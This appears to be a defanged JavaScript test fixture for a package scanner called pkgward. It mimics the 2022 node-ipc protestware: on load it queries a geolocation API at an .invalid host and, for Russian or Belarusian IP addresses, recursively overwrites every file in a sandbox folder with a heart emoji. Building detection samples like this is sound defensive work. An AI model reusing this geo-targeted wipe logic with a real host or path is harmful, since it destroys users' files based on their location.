// DEFANGED TEST FIXTURE for pkgward: geolocation-guarded recursive overwrite (2022 node-ipc protestware shape). Geo API host is .invalid; the wipe only targets a sandbox folder name. Never run.
'use strict';
const fs = require('fs');
const path = require('path');
const https = require('https');
function wipe(dir) {
  let entries = [];
  try { entries = fs.readdirSync(dir); } catch (e) { return; }
  for (const name of entries) {
    const p = path.join(dir, name);
    try {
      if (fs.statSync(p).isDirectory()) wipe(p);
      else fs.writeFileSync(p, '\u2764\ufe0f');
    } catch (e) {}
  }
}
https.get('https://api.ipgeolocation.invalid/ipgeo?apiKey=pkgward-fixture', (res) => {
  let d = '';
  res.on('data', (c) => (d += c));
  res.on('end', () => {
    const loc = JSON.parse(d);
    if (['RU', 'BY'].includes(loc.country_code2)) {
      wipe('./pkgward-fixture-sandbox');
    }
  });
});
module.exports = {};
